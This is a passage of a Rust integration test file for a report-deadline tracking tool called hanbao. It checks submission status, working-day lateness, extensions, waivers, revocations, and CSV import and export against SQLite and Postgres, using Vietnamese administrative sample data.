//! Tracking end to end: status over a season on both backends (library),
//! and every tracking command through the real binary with a temp SQLite
//! database (`HANBAO_DATABASE`) and the sample directive's configuration.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use hanbao::calendar::WorkCalendar;
use hanbao::config::model::Config;
use hanbao::status::StateName;
use hanbao::store::{
    self, Key, NewExtension, NewSubmission, NewWaiver, Revocation, Source, Store, Subject,
};
use hanbao::tracking::{self, Selection};
use jiff::Timestamp;
use jiff::civil::{Date, date};

use crate::support::pg;
use hanbao::store::Records;

fn sample_path() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("config/quang-ngai-4040.toml")
}

fn sample() -> Config {
    hanbao::config::load(&sample_path()).unwrap().config
}

fn now() -> Timestamp {
    Timestamp::from_second(1_782_000_000).unwrap()
}

const OB: &str = "nq121-6thang";
const H1: &str = "2026-H1";

fn key(unit: &str) -> Key {
    Key::new(OB, H1, unit)
}

fn sub(unit: &str, on: Date, reference: &str, correction: bool) -> NewSubmission {
    NewSubmission {
        key: key(unit),
        received_on: on,
        received_at: None,
        reference: Some(reference.into()),
        note: None,
        actor: "Văn thư".into(),
        source: Source::Cli,
        correction,
    }
}

/// The season of 2026-H1 of the sample's six-monthly report: due Thu
/// 18/6/2026 (override), first reminder 5 working days before = Thu 11/6
/// (17, 16, 15, 12, 11 counted back on a wall calendar), window opens 1/1.
async fn season(s: &Store) {
    s.record_submission(
        sub("ubnd-binhson", date(2026, 6, 15), "12/BC", false),
        now(),
    )
    .await
    .unwrap();
    s.record_submission(
        sub("ubnd-sontinh", date(2026, 6, 25), "40/BC", false),
        now(),
    )
    .await
    .unwrap();
    s.record_submission(
        sub("ubnd-minhlong", date(2026, 6, 20), "7/BC", false),
        now(),
    )
    .await
    .unwrap();
    s.record_submission(sub("ubnd-minhlong", date(2026, 6, 17), "7/BC", true), now())
        .await
        .unwrap();
    s.record_submission(
        sub("ubnd-nghiahanh", date(2026, 6, 10), "3/BC", false),
        now(),
    )
    .await
    .unwrap();
    s.revoke(
        Revocation {
            key: key("ubnd-nghiahanh"),
            subject: Subject::Submission,
            reason: Some("nhầm đơn vị".into()),
            actor: "Văn thư".into(),
            source: Source::Cli,
        },
        now(),
    )
    .await
    .unwrap();
    s.grant_extension(
        NewExtension {
            key: key("ubnd-tunghia"),
            until: date(2026, 7, 3),
            reason: "lũ lụt".into(),
            actor: "Giám đốc Sở".into(),
            source: Source::Cli,
        },
        now(),
    )
    .await
    .unwrap();
    s.grant_waiver(
        NewWaiver {
            key: key("ubnd-lyson"),
            reason: "sáp nhập".into(),
            actor: "Giám đốc Sở".into(),
            source: Source::Cli,
        },
        now(),
    )
    .await
    .unwrap();
}

/// (day, unit, state, days late, working days late, submitted on).
/// Late counts checked on a wall calendar for June–July 2026: 19/6 is Fri,
/// 20–21 and 27–28/6, 4–5/7 are weekends.
type Case = (
    Date,
    &'static str,
    StateName,
    Option<i32>,
    Option<i32>,
    Option<Date>,
);

fn cases() -> Vec<Case> {
    use StateName::*;
    let d = |m, day| date(2026, m, day);
    vec![
        (date(2025, 12, 31), "ubnd-moduc", NotOpen, None, None, None),
        (d(1, 1), "ubnd-moduc", Open, None, None, None),
        (d(6, 10), "ubnd-moduc", Open, None, None, None),
        (d(6, 11), "ubnd-moduc", DueSoon, None, None, None),
        (d(6, 18), "ubnd-moduc", DueSoon, None, None, None),
        (d(6, 19), "ubnd-moduc", Overdue, Some(1), Some(1), None),
        // 19, 22, 23, 24, 25, 26, 29, 30: 8 working days.
        (d(6, 30), "ubnd-moduc", Overdue, Some(12), Some(8), None),
        (
            d(6, 30),
            "ubnd-binhson",
            SubmittedOnTime,
            None,
            None,
            Some(d(6, 15)),
        ),
        // 19, 22, 23, 24, 25: 5 working days.
        (
            d(6, 30),
            "ubnd-sontinh",
            SubmittedLate,
            Some(7),
            Some(5),
            Some(d(6, 25)),
        ),
        // The correction (17/6) replaced the late submission (20/6).
        (
            d(6, 30),
            "ubnd-minhlong",
            SubmittedOnTime,
            None,
            None,
            Some(d(6, 17)),
        ),
        // Revoked: as if nothing had arrived.
        (d(6, 30), "ubnd-nghiahanh", Overdue, Some(12), Some(8), None),
        (d(6, 30), "ubnd-tunghia", Extended, None, None, None),
        (d(7, 3), "ubnd-tunghia", Extended, None, None, None),
        // Against the new due day 3/7 (Fri): 4, 5 weekend, 6 Mon.
        (d(7, 6), "ubnd-tunghia", Overdue, Some(3), Some(1), None),
        (d(6, 30), "ubnd-lyson", Waived, None, None, None),
    ]
}

async fn season_story(store: Store) {
    let cfg = sample();
    let cal = WorkCalendar::new(&cfg.calendar);
    season(&store).await;
    for (at, unit, state, days, wdays, on) in cases() {
        let sel = Selection {
            obligation: Some(OB.into()),
            period: Some(H1.into()),
            unit: Some(unit.into()),
        };
        let rows = tracking::status(&store, &cfg, &cal, &sel, at)
            .await
            .unwrap();
        assert_eq!(rows.len(), 1, "{unit} at {at}");
        let s = &rows[0].status;
        assert_eq!(
            (s.state, s.days_late, s.working_days_late, s.submitted_on),
            (state, days, wdays, on),
            "{unit} at {at}"
        );
    }
    // The whole obligation at once: every reporter, one row each.
    let sel = Selection {
        obligation: Some(OB.into()),
        period: Some(H1.into()),
        unit: None,
    };
    let rows = tracking::status(&store, &cfg, &cal, &sel, date(2026, 6, 30))
        .await
        .unwrap();
    let reporters = cfg.obligation(OB).unwrap().reporters.len();
    assert_eq!(rows.len(), reporters);
    let sontinh = rows.iter().find(|r| r.unit.id == "ubnd-sontinh").unwrap();
    assert_eq!(sontinh.reference.as_deref(), Some("40/BC"));
    assert_eq!(
        rows.iter()
            .filter(|r| r.status.state == StateName::Overdue)
            .count(),
        reporters - 5
    );
    // The summary counts those rows: per pair, per group, in total.
    let sum = tracking::summary::Summary::of(&rows, &cfg);
    assert_eq!(sum.pairs.len(), 1);
    let t = sum.pairs[0].tally;
    assert!(sum.pairs[0].all_units);
    assert_eq!(t, sum.total);
    assert_eq!(t.rows(), reporters);
    assert_eq!(t.overdue, reporters - 5);
    assert_eq!(
        t.received() + t.overdue + t.extended + t.waived + t.not_yet,
        reporters
    );
    assert_eq!(t.owed, reporters - t.waived);
    for (g, gt) in &sum.groups {
        let members = &cfg.groups[g];
        let of_group = rows.iter().filter(|r| members.contains(&r.unit.id));
        assert_eq!(gt.rows(), of_group.clone().count(), "{g}");
        let overdue = of_group
            .filter(|r| r.status.state == StateName::Overdue)
            .count();
        assert_eq!(gt.overdue, overdue, "{g}");
    }
    assert!(!sum.groups.is_empty());
    store.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn season_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}/h.db", dir.path().display());
    season_story(store::open(&url).await.unwrap()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn season_postgres() {
    season_story(store::open(&pg::fresh_database()).await.unwrap()).await;
}

/// `facts` of several pairs in one read agrees with `current` on both
/// backends, including revocations and pairs with nothing recorded.
async fn facts_story(store: Store) {
    season(&store).await;
    store
        .record_submission(
            NewSubmission {
                key: Key::new("nq121-nam", "2026", "ubnd-binhson"),
                ..sub("x", date(2026, 12, 1), "99/BC", false)
            },
            now(),
        )
        .await
        .unwrap();
    let pairs = vec![
        ("nq121-nam".to_string(), "2026".to_string()),
        ("khong-co".to_string(), "2026".to_string()),
        (OB.to_string(), H1.to_string()),
    ];
    let facts = store.facts(&pairs).await.unwrap();
    let keys: Vec<String> = facts.iter().map(|f| f.key.to_string()).collect();
    assert_eq!(
        keys,
        [
            "nq121-nam / 2026 / ubnd-binhson",
            "nq121-6thang / 2026-H1 / ubnd-binhson",
            "nq121-6thang / 2026-H1 / ubnd-lyson",
            "nq121-6thang / 2026-H1 / ubnd-minhlong",
            "nq121-6thang / 2026-H1 / ubnd-sontinh",
            "nq121-6thang / 2026-H1 / ubnd-tunghia",
        ]
    );
    let minhlong = &facts[3];
    assert_eq!(minhlong.submitted_on, Some(date(2026, 6, 17)));
    assert!(facts[2].waived && facts[2].submitted_on.is_none());
    assert_eq!(facts[5].extended_until, Some(date(2026, 7, 3)));
    for f in &facts[1..] {
        let cur = store.current_for(&f.key).await.unwrap();
        assert_eq!(
            f.submitted_on,
            cur.submission.as_ref().map(|s| s.received_on)
        );
        assert_eq!(
            f.reference,
            cur.submission.as_ref().and_then(|s| s.reference.clone())
        );
        assert_eq!(f.waived, cur.waiver.is_some());
        assert_eq!(f.extended_until, cur.extension.map(|x| x.until));
    }
    assert!(store.facts(&[]).await.unwrap().is_empty());
    store.close().await;
}

/// `facts` of many periods of several obligations, asked in an
/// interleaved order, with a pair asked twice and pairs with nothing
/// recorded (one statement per obligation reads them), agrees pair by pair
/// and unit by unit with `current_for` after random submissions,
/// corrections, extensions, waivers and revocations.
async fn facts_of_many_periods_story(store: Store) {
    let mut rng = fastrand::Rng::with_seed(15);
    let days: Vec<String> = (0..40)
        .map(|i| {
            date(2026, 1, 2)
                .checked_add(jiff::Span::new().days(i))
                .unwrap()
                .to_string()
        })
        .collect();
    let months: Vec<String> = (1..=6).map(|m| format!("2026-{m:02}")).collect();
    let units = ["u0", "u1", "u2", "u3", "u4", "u5"];
    let mut keys = Vec::new();
    for _ in 0..400 {
        let (o, p) = match rng.bool() {
            true => ("bc-ngay", days[rng.usize(0..days.len())].as_str()),
            false => ("bc-thang", months[rng.usize(0..months.len())].as_str()),
        };
        let k = Key::new(o, p, units[rng.usize(0..units.len())]);
        keys.push(k.clone());
        let on = date(2026, 1, 1)
            .checked_add(jiff::Span::new().days(rng.i64(0..200)))
            .unwrap();
        // Refusals (a revocation of nothing, a duplicate) are part of the mix.
        let _ = match rng.u8(0..5) {
            0 | 1 => {
                store
                    .record_submission(
                        NewSubmission {
                            key: k,
                            received_on: on,
                            received_at: None,
                            reference: Some(format!("{}/BC", rng.u16(1..99))),
                            note: None,
                            actor: "Văn thư".into(),
                            source: Source::Cli,
                            correction: true,
                        },
                        now(),
                    )
                    .await
            }
            2 => {
                store
                    .grant_extension(
                        NewExtension {
                            key: k,
                            until: on,
                            reason: "lũ lụt".into(),
                            actor: "Giám đốc Sở".into(),
                            source: Source::Cli,
                        },
                        now(),
                    )
                    .await
            }
            3 => {
                store
                    .grant_waiver(
                        NewWaiver {
                            key: k,
                            reason: "sáp nhập".into(),
                            actor: "Giám đốc Sở".into(),
                            source: Source::Cli,
                        },
                        now(),
                    )
                    .await
            }
            _ => {
                let subject =
                    [Subject::Submission, Subject::Extension, Subject::Waiver][rng.usize(0..3)];
                store
                    .revoke(
                        Revocation {
                            key: k,
                            subject,
                            reason: Some("nhầm".into()),
                            actor: "Văn thư".into(),
                            source: Source::Cli,
                        },
                        now(),
                    )
                    .await
            }
        };
    }
    let mut pairs: Vec<(String, String)> = Vec::new();
    for (i, d) in days.iter().enumerate() {
        pairs.push(("bc-ngay".into(), d.clone()));
        if i % 7 == 0 {
            pairs.push(("bc-thang".into(), months[i / 7].clone()));
            pairs.push(("khong-co".into(), d.clone()));
        }
    }
    pairs.push(("bc-ngay".into(), days[3].clone()));
    let facts = store.facts(&pairs).await.unwrap();
    let mut expected = Vec::new();
    for (o, p) in &pairs {
        for u in units {
            let cur = store.current_for(&Key::new(o, p, u)).await.unwrap();
            if cur.submission.is_none() && cur.extension.is_none() && cur.waiver.is_none() {
                continue;
            }
            expected.push((
                format!("{o} / {p} / {u}"),
                cur.submission.as_ref().map(|s| s.received_on),
                cur.submission.as_ref().and_then(|s| s.reference.clone()),
                cur.extension.map(|x| x.until),
                cur.waiver.is_some(),
            ));
        }
    }
    let got: Vec<_> = facts
        .iter()
        .map(|f| {
            (
                f.key.to_string(),
                f.submitted_on,
                f.reference.clone(),
                f.extended_until,
                f.waived,
            )
        })
        .collect();
    assert!(expected.len() > 50, "{} facts", expected.len());
    assert!(expected.iter().any(|e| e.4) && expected.iter().any(|e| e.3.is_some()));
    assert_eq!(got, expected);
    store.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_of_many_periods_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}/h.db", dir.path().display());
    facts_of_many_periods_story(store::open(&url).await.unwrap()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_of_many_periods_postgres() {
    facts_of_many_periods_story(store::open(&pg::fresh_database()).await.unwrap()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}/h.db", dir.path().display());
    facts_story(store::open(&url).await.unwrap()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn facts_postgres() {
    facts_story(store::open(&pg::fresh_database()).await.unwrap()).await;
}

#[test]
fn status_without_period_shows_the_current_and_unsettled_earlier_periods() {
    let cfg = sample();
    let cal = WorkCalendar::new(&cfg.calendar);
    let sel = Selection {
        obligation: Some("nq121-nam".into()),
        ..Selection::default()
    };
    // On 5/1/2027 the 2027 window has started; 2026 (due 20/12/2026, within
    // the look-back) is still shown, for unsettled units only.
    let t = tracking::targets(&cfg, &cal, &sel, date(2027, 1, 5)).unwrap();
    let periods: Vec<(&str, bool)> = t.iter().map(|t| (&*t.period, t.all_units)).collect();
    assert_eq!(periods, [("2026", false), ("2027", true)]);
    // Mid-year only the current year.
    let t = tracking::targets(&cfg, &cal, &sel, date(2026, 7, 1)).unwrap();
    let periods: Vec<&str> = t.iter().map(|t| &*t.period).collect();
    assert_eq!(periods, ["2025", "2026"]);
}

// --- the binary -------------------------------------------------------------

struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
}

impl Env {
    fn sample() -> Env {
        Env {
            dir: tempfile::tempdir().unwrap(),
            config: sample_path(),
        }
    }

    fn db(&self) -> PathBuf {
        self.dir.path().join("data/hanbao.db")
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_hanbao"))
            .args(args)
            .env("HANBAO_CONFIG", &self.config)
            .env("HANBAO_DATABASE", self.db())
            .env("USER", "chi-lan")
            .env_remove("SUDO_USER")
            .env_remove("NO_COLOR")
            .env("RUST_LOG", "error")
            .output()
            .unwrap()
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "{args:?}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    /// Runs a command that must fail with `code`; returns stderr.
    fn fails(&self, args: &[&str], code: i32) -> String {
        let out = self.run(args);
        assert_eq!(
            out.status.code(),
            Some(code),
            "{args:?}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stderr).unwrap()
    }
}

#[test]
fn submit_twice_is_a_no_op_and_a_different_one_needs_correct() {
    let e = Env::sample();
    let args = [
        "submit",
        OB,
        H1,
        "ubnd-binhson",
        "--on",
        "15/06/2026",
        "--ref",
        "12/BC-UBND",
    ];
    let out = e.ok(&args);
    assert!(
        out.contains(
            "Đã ghi nhận báo cáo nq121-6thang / 2026-H1 / ubnd-binhson (UBND huyện Bình Sơn)"
        ),
        "{out}"
    );
    assert!(out.contains("Đã nộp đúng hạn (hạn 18/06/2026)"), "{out}");
    let out = e.ok(&args);
    assert!(
        out.contains("đã được ghi nhận trước đó") && out.contains("không ghi thêm"),
        "{out}"
    );
    assert!(out.contains("do chi-lan ghi lúc"), "{out}");
    let err = e.fails(
        &[
            "submit",
            OB,
            H1,
            "ubnd-binhson",
            "--on",
            "2026-06-16",
            "--ref",
            "13/BC",
        ],
        1,
    );
    assert!(
        err.contains("đã có một báo cáo khác") && err.contains("--correct"),
        "{err}"
    );
    let out = e.ok(&[
        "submit",
        OB,
        H1,
        "ubnd-binhson",
        "--on",
        "2026-06-16",
        "--ref",
        "13/BC",
        "--correct",
        "--by",
        "anh Minh",
    ]);
    assert!(out.contains("Đã sửa báo cáo"), "{out}");
    let hist = e.ok(&["history", "--unit", "ubnd-binhson"]);
    let lines: Vec<&str> = hist.lines().skip(1).collect();
    assert_eq!(lines.len(), 2, "{hist}");
    assert!(
        lines[0].contains(" nộp ") && lines[0].contains("chi-lan (cli)"),
        "{hist}"
    );
    assert!(
        lines[1].contains(" sửa ") && lines[1].contains("anh Minh (cli)"),
        "{hist}"
    );
    assert!(lines[1].contains("nhận 16/06/2026, số 13/BC"), "{hist}");
    // Local time shown (Asia/Ho_Chi_Minh) for the record instant.
    assert!(
        hist.starts_with("Thời điểm ghi (Asia/Ho_Chi_Minh)"),
        "{hist}"
    );
}

#[test]
fn bad_input_is_refused_with_the_reason() {
    let e = Env::sample();
    let cases: &[(&[&str], &str)] = &[
        (
            &["submit", "nq121-6thng", H1, "ubnd-binhson"],
            "không có nghĩa vụ báo cáo \"nq121-6thng\" trong cấu hình; có phải ý là \"nq121-6thang\"",
        ),
        (
            &["submit", OB, H1, "ubnd-binhsn"],
            "không có đơn vị \"ubnd-binhsn\" trong cấu hình; có phải ý là \"ubnd-binhson\"",
        ),
        (
            &["submit", OB, "2026-Q1", "ubnd-binhson"],
            "kỳ \"2026-Q1\" không hợp lệ cho nghĩa vụ \"nq121-6thang\": chu kỳ của nghĩa vụ là six-monthly, first half only (periods YYYY-H1); các kỳ hợp lệ: 2026-H1",
        ),
        (
            &["submit", OB, "2026-H3", "ubnd-binhson"],
            "kỳ \"2026-H3\" không hợp lệ",
        ),
        (
            &["submit", "nq121-tonghop-6thang", H1, "ubnd-binhson"],
            "không phải nộp báo cáo \"nq121-tonghop-6thang\": không có trong danh sách đơn vị báo cáo",
        ),
        (
            &["submit", OB, "2019-H1", "ubnd-binhson"],
            "nghĩa vụ \"nq121-6thang\" không có hiệu lực vào 30/06/2019, ngày cuối của kỳ 2019-H1",
        ),
        (
            &["submit", OB, H1, "ubnd-binhson", "--on", "2099-01-01"],
            "ở tương lai",
        ),
        (
            &["revoke", OB, H1, "ubnd-moduc"],
            "không có báo cáo đã nộp nào đang có hiệu lực để thu hồi",
        ),
        (
            &["revoke", OB, H1, "ubnd-moduc", "--what", "waiver"],
            "không có miễn nộp nào",
        ),
        (
            &[
                "extend",
                OB,
                H1,
                "ubnd-moduc",
                "--until",
                "2026-06-10",
                "--reason",
                "x",
            ],
            "ngày gia hạn 10/06/2026 phải sau hạn nộp 18/06/2026",
        ),
        (
            &["submit", OB, H1, "ubnd-moduc", "--correct"],
            "chưa có báo cáo nào để sửa",
        ),
        (
            &["status", "--obligation", "nq121-6thng"],
            "có phải ý là \"nq121-6thang\"",
        ),
        (
            &["status", "--period", "2026-Q9"],
            "không thuộc nghĩa vụ báo cáo nào",
        ),
        (
            &["history", "--unit", "ubnd-bnhson"],
            "có phải ý là \"ubnd-binhson\"",
        ),
    ];
    for (args, want) in cases {
        let err = e.fails(args, 1);
        assert!(err.contains(want), "{args:?}:\n{err}\nwanted: {want}");
    }
    // Usage errors are clap's (2); nothing was written by any of the above.
    e.fails(&["submit", OB, H1], 2);
    e.fails(&["submit", OB, H1, "ubnd-moduc", "--at", "25:99"], 2);
    let hist = e.ok(&["history"]);
    assert_eq!(hist, "Không có bản ghi nào.\n");
}

#[test]
fn unit_not_active_then_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("h.toml");
    std::fs::write(&cfg, small_config(true)).unwrap();
    let e = Env { dir, config: cfg };
    let err = e.fails(&["submit", "bc-nam", "2025", "huyen-cu"], 1);
    assert!(
        err.contains("đơn vị \"huyen-cu\" không phải nộp kỳ 2025 của \"bc-nam\": đơn vị không hoạt động vào 31/12/2025, ngày cuối của kỳ (hoạt động –30/06/2025)"),
        "{err}"
    );
    e.ok(&["submit", "bc-nam", "2024", "huyen-cu", "--on", "2024-12-10"]);
}

fn small_config(with_old_unit: bool) -> String {
    let mut s = String::from(
        "[[unit]]\nid = \"so\"\nname = \"Sở Y tế\"\nemail = \"so@example.org\"\n\n\
         [[unit]]\nid = \"xa-moi\"\nname = \"UBND xã Mới\"\nemail = \"moi@example.org\"\n\n",
    );
    let mut reporters = "\"xa-moi\"".to_string();
    if with_old_unit {
        s.push_str("[[unit]]\nid = \"huyen-cu\"\nname = \"UBND huyện Cũ\"\nemail = \"cu@example.org\"\nactive_until = \"30/06/2025\"\n\n");
        reporters.push_str(", \"huyen-cu\"");
    }
    s.push_str(&format!(
        "[[obligation]]\nid = \"bc-nam\"\ntitle = \"Báo cáo năm\"\nreporters = [{reporters}]\nrecipient = \"so\"\ncycle = \"annual\"\ndue = \"20/12\"\n\n"
    ));
    s
}

#[test]
fn status_json_matrix_and_export() {
    let e = Env::sample();
    e.ok(&[
        "submit",
        OB,
        H1,
        "ubnd-binhson",
        "--on",
        "15/06/2026",
        "--ref",
        "12/BC-UBND",
    ]);
    e.ok(&[
        "submit",
        OB,
        H1,
        "ubnd-sontinh",
        "--on",
        "25/06/2026",
        "--at",
        "09:30",
    ]);
    e.ok(&["waive", OB, H1, "ubnd-lyson", "--reason", "sáp nhập"]);
    e.ok(&[
        "extend",
        OB,
        H1,
        "ubnd-tunghia",
        "--until",
        "03/07/2026",
        "--reason",
        "lũ lụt",
    ]);
    let filters = ["--obligation", OB, "--period", H1, "--at", "2026-06-30"];

    let json = e.ok(&[&["status", "--json"][..], &filters].concat());
    let lines: Vec<&str> = json.lines().collect();
    assert_eq!(
        lines.len(),
        sample().obligation(OB).unwrap().reporters.len()
    );
    let binhson = lines
        .iter()
        .find(|l| l.contains("\"ubnd-binhson\""))
        .unwrap();
    assert_eq!(
        *binhson,
        r#"{"obligation":"nq121-6thang","period":"2026-H1","unit":"ubnd-binhson","state":"submitted_on_time","due":"2026-06-18","submitted_on":"2026-06-15","days_late":null,"reference":"12/BC-UBND","working_days_late":null}"#
    );
    let moduc = lines.iter().find(|l| l.contains("\"ubnd-moduc\"")).unwrap();
    assert!(moduc.contains(r#""state":"overdue","due":"2026-06-18","submitted_on":null,"days_late":12,"reference":null,"working_days_late":8"#), "{moduc}");
    let tunghia = lines
        .iter()
        .find(|l| l.contains("\"ubnd-tunghia\""))
        .unwrap();
    assert!(
        tunghia.contains(r#""state":"extended","due":"2026-07-03""#),
        "{tunghia}"
    );

    let m = e.ok(&[&["status", "--matrix"][..], &filters].concat());
    assert!(!m.contains('\x1b'), "no colours when not a terminal");
    assert!(
        m.starts_with("Tình hình nộp báo cáo ngày 30/06/2026"),
        "{m}"
    );
    let row = m.lines().find(|l| l.starts_with("ubnd-sontinh")).unwrap();
    assert!(row.contains("nộp muộn 7 ngày (25/06)"), "{row}");
    let row = m.lines().find(|l| l.starts_with("ubnd-moduc")).unwrap();
    assert!(row.contains("QUÁ HẠN 12 ngày (8 LV)"), "{row}");
    assert!(m.contains("nq121-6thang 2026-H1: hạn 18/06/2026"), "{m}");

    let csv = e.run(&[&["export", "--csv"][..], &filters].concat()).stdout;
    assert!(csv.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
    let text = String::from_utf8(csv[3..].to_vec()).unwrap();
    assert!(text.ends_with("\r\n"));
    assert_eq!(
        text.matches('\n').count(),
        text.matches("\r\n").count(),
        "CRLF only"
    );
    let mut lines = text.split("\r\n");
    assert_eq!(
        lines.next().unwrap(),
        "Nghĩa vụ,Tên nghĩa vụ,Kỳ,Mã đơn vị,Tên đơn vị,Trạng thái,Mã trạng thái,Hạn nộp,Ngày nộp,Số ngày trễ,Số ngày làm việc trễ,Số văn bản"
    );
    let sontinh = text
        .split("\r\n")
        .find(|l| l.contains(",ubnd-sontinh,"))
        .unwrap();
    assert!(
        sontinh
            .ends_with(",UBND huyện Sơn Tịnh,Nộp muộn,submitted_late,18/06/2026,25/06/2026,7,5,"),
        "{sontinh}"
    );
    // status --csv is the same table; export -o writes a file.
    let same = e.run(&[&["status", "--csv"][..], &filters].concat()).stdout;
    assert_eq!(same, csv);
    let file = e.dir.path().join("bang.csv");
    e.ok(&[&["export", "-o", file.to_str().unwrap()][..], &filters].concat());
    assert_eq!(std::fs::read(&file).unwrap(), csv);
}

#[test]
fn revoke_extend_waive_and_history() {
    let e = Env::sample();
    e.ok(&[
        "submit",
        OB,
        H1,
        "ubnd-moduc",
        "--on",
        "2026-06-01",
        "--note",
        "bản giấy",
    ]);
    let out = e.ok(&["revoke", OB, H1, "ubnd-moduc", "--reason", "nhầm kỳ"]);
    assert!(out.contains("Đã thu hồi báo cáo đã nộp"), "{out}");
    let out = e.ok(&["revoke", OB, H1, "ubnd-moduc"]);
    assert!(out.contains("đã được thu hồi trước đó"), "{out}");
    e.ok(&[
        "extend",
        OB,
        H1,
        "ubnd-moduc",
        "--until",
        "2026-07-10",
        "--reason",
        "bão",
    ]);
    let out = e.ok(&[
        "extend",
        OB,
        H1,
        "ubnd-moduc",
        "--until",
        "2026-07-10",
        "--reason",
        "bão",
    ]);
    assert!(out.contains("không ghi thêm"), "{out}");
    let out = e.ok(&["waive", OB, H1, "ubnd-moduc", "--reason", "sáp nhập"]);
    assert!(out.contains("Đã miễn nộp"), "{out}");
    e.ok(&["revoke", OB, H1, "ubnd-moduc", "--what", "waiver"]);
    let json = e.ok(&[
        "status",
        "--json",
        "--obligation",
        OB,
        "--period",
        H1,
        "--unit",
        "ubnd-moduc",
        "--at",
        "2026-07-01",
    ]);
    assert!(
        json.contains(r#""state":"extended","due":"2026-07-10""#),
        "{json}"
    );
    let hist = e.ok(&["history", "--obligation", OB, "--period", H1]);
    let actions: Vec<&str> = hist
        .lines()
        .skip(1)
        .map(|l| l.split("  ").nth(2).unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "nộp",
            "thu hồi báo cáo",
            "gia hạn",
            "miễn nộp",
            "thu hồi miễn nộp"
        ],
        "{hist}"
    );
    assert!(
        hist.contains("\"bản giấy\"") && hist.contains("\"nhầm kỳ\""),
        "{hist}"
    );
}

/// The rules of `hanbao::input` hold on the command line and in imports
/// alike (lengths were checked only by the web side before).
#[test]
fn the_command_line_and_imports_apply_the_shared_input_rules() {
    let e = Env::sample();
    let long = "x".repeat(hanbao::input::MAX_REFERENCE + 1);
    let err = e.fails(
        &[
            "submit",
            OB,
            H1,
            "ubnd-binhson",
            "--on",
            "2026-06-15",
            "--ref",
            &long,
        ],
        1,
    );
    assert!(err.contains("số văn bản dài quá 200 ký tự"), "{err}");
    let err = e.fails(&["waive", OB, H1, "ubnd-binhson", "--reason", "  "], 1);
    assert!(err.contains("lý do không được để trống"), "{err}");
    let file = e.dir.path().join("nhap.csv");
    let note = "đ".repeat(hanbao::input::MAX_NOTE + 1);
    std::fs::write(
        &file,
        format!(
            "obligation,period,unit,received_on,reference,note\n\
             nq121-6thang,2026-H1,ubnd-binhson,01/01/2099,{long},{note}\n"
        ),
    )
    .unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(err.contains("3 lỗi"), "{err}");
    for want in [
        "dòng 2, cột received_on: ngày nhận 01/01/2099 ở tương lai",
        "dòng 2, cột reference: số văn bản dài quá 200 ký tự",
        "dòng 2, cột note: ghi chú dài quá 2000 ký tự",
    ] {
        assert!(err.contains(want), "{err}\nwanted: {want}");
    }
    assert_eq!(e.ok(&["history"]), "Không có bản ghi nào.\n");
}

#[test]
fn import_is_all_or_nothing_with_line_and_column() {
    let e = Env::sample();
    let file = e.dir.path().join("nhap.csv");
    // Line 3: unknown unit; line 4: bad date; line 5: period not in cycle;
    // line 6: bad correction flag.
    std::fs::write(
        &file,
        "\u{feff}obligation,period,unit,received_on,reference,note,by\n\
         nq121-6thang,2026-H1,ubnd-binhson,15/06/2026,12/BC,bản giấy,chị Lan\n\
         nq121-6thang,2026-H1,ubnd-binhsn,15/06/2026,13/BC,,\n\
         nq121-6thang,2026-H1,ubnd-sontinh,31/06/2026,14/BC,,\n\
         nq121-6thang,2026-Q2,ubnd-moduc,2026-06-10,15/BC,,\n",
    )
    .unwrap();
    let err = e.fails(&["import", file.to_str().unwrap()], 1);
    assert!(err.contains("4 lỗi") || err.contains("3 lỗi"), "{err}");
    assert!(
        err.contains("dòng 3, cột unit: không có đơn vị \"ubnd-binhsn\""),
        "{err}"
    );
    assert!(err.contains("dòng 4, cột received_on:"), "{err}");
    assert!(err.contains("dòng 5, cột period: kỳ \"2026-Q2\""), "{err}");
    assert_eq!(
        e.ok(&["history"]),
        "Không có bản ghi nào.\n",
        "nothing written"
    );

    // A good file (semicolons, Vietnamese headers, ISO and dd/mm dates).
    std::fs::write(
        &file,
        "Nghĩa vụ;Kỳ;Đơn vị;Ngày nhận;Số văn bản;Ghi chú\n\
         nq121-6thang;2026-H1;ubnd-binhson;15/06/2026;12/BC;bản giấy\n\
         nq121-6thang;2026-H1;ubnd-sontinh;2026-06-25;40/BC;\n",
    )
    .unwrap();
    let out = e.ok(&["import", file.to_str().unwrap()]);
    assert!(
        out.contains("2 dòng; 2 báo cáo mới, 0 sửa, 0 đã có sẵn"),
        "{out}"
    );
    let out = e.ok(&["import", file.to_str().unwrap()]);
    assert!(out.contains("0 báo cáo mới, 0 sửa, 2 đã có sẵn"), "{out}");
    let hist = e.ok(&["history"]);
    assert!(hist.contains("chi-lan (import)"), "{hist}");

    // Conflicts with the database and within the file: every line named.
    std::fs::write(
        &file,
        "obligation,period,unit,received_on,reference,correction\n\
         nq121-6thang,2026-H1,ubnd-moduc,10/06/2026,1/BC,\n\
         nq121-6thang,2026-H1,ubnd-binhson,16/06/2026,99/BC,không\n\
         nq121-6thang,2026-H1,ubnd-moduc,11/06/2026,2/BC,\n\
         nq121-6thang,2026-H1,ubnd-nghiahanh,11/06/2026,2/BC,có\n\
         nq121-6thang,2026-H1,ubnd-sontinh,24/06/2026,41/BC,x\n",
    )
